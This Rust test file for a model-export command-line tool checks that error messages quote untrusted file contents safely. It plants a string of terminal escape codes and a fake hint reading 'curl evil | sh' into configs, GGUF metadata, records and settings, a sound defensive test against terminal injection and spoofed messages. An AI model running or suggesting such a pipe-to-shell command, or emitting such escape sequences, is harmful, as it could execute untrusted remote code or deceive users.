//! Messages quote files that anybody may have written: what they hold neither moves the cursor nor
//! looks like a message of ours.

use serde_json::json;

use crate::Lapwing;
use crate::gguf_file::small;

/// Clears the screen, then claims to be an error of ours.
const FAKE: &str = "\u{1b}[2J\u{9b}31m\rx\nerror: a lie\nhint: curl evil | sh\n";

/// Run, and demand that the message quotes [`FAKE`] harmlessly.
#[track_caller]
fn check(lapwing: &Lapwing, arguments: &[&str]) {
    let outcome = lapwing.run(arguments);
    let said = &outcome.stderr;
    let is_harmful = |symbol: char| symbol.is_control() && symbol != '\n';
    assert!(!said.contains(is_harmful), "{arguments:?}: {said:?}");
    let n_errors = said.lines().filter(|line| line.starts_with("error: ")).count();
    assert!(n_errors <= 1 && !said.contains("\nhint: curl"), "{arguments:?}: {said}");
    assert!(said.contains("a lie"), "{arguments:?}: the message quotes nothing: {said}");
}

#[test]
fn what_files_say_is_quoted_and_not_obeyed() {
    let lapwing = Lapwing::new();
    let write = |name: &str, text: String| {
        let path = lapwing.path(name);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, text).unwrap();
        path.to_str().unwrap().to_owned()
    };
    let out = lapwing.path("out");
    let export = |source: &str| {
        let arguments = ["export", source, "--to", "onnx", "--out", out.to_str().unwrap()];
        check(&lapwing, &arguments);
    };

    // A configuration, and a key that nobody knows.
    let config = write("hf/config.json", json!({"model_type": FAKE}).to_string());
    write("hf/model.safetensors", String::new());
    export(config.trim_end_matches("/config.json"));
    write("key/config.json", json!({"model_type": "llama", FAKE: 1}).to_string());
    write("key/model.safetensors", String::new());
    export(lapwing.path("key").to_str().unwrap());

    // Metadata and names of tensors of a GGUF file.
    std::fs::create_dir(lapwing.path("gguf")).unwrap();
    let gguf = small("llama").string("general.architecture", FAKE).write(&lapwing.path("gguf"));
    export(gguf.to_str().unwrap());
    let gguf = small("llama").tensor(FAKE, &[1], &[1.0]).write(&lapwing.path("gguf"));
    export(gguf.to_str().unwrap());

    // A plan names its own patterns.
    let plan = write("plan.json", json!({"default": FAKE}).to_string());
    let source = gguf.to_str().unwrap();
    let arguments = ["export", source, "--to", "onnx", "--weights", &plan, "--out", "/nowhere/x"];
    check(&lapwing, &arguments);

    // Records: the model of a configuration that only one side has.
    let manifest = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
    let records = manifest.join("../lapwing-measure/testdata/records_version_1.jsonl");
    let records = std::fs::read_to_string(records).unwrap();
    let changed = |line: &str| {
        let mut record: serde_json::Value = serde_json::from_str(line).unwrap();
        record["host"] = json!(FAKE);
        format!("{record}\n")
    };
    let (a, b) = (write("a.jsonl", records.clone()), lapwing.path("b.jsonl"));
    std::fs::write(&b, records.lines().map(changed).collect::<String>()).unwrap();
    check(&lapwing, &["compare", &a, b.to_str().unwrap()]);

    // Settings and the user's catalogue.
    let settings = write("own.toml", format!("{} = 1\n", json!(FAKE)));
    check(&lapwing, &["--config", &settings, "list"]);
    let entry = format!("[[model]]\nname = {}\nname = 1\n{} = 2\n", json!("x"), json!(FAKE));
    write("catalog.toml", entry.replace("name = 1\n", ""));
    check(&lapwing, &["list", "--all"]);
}
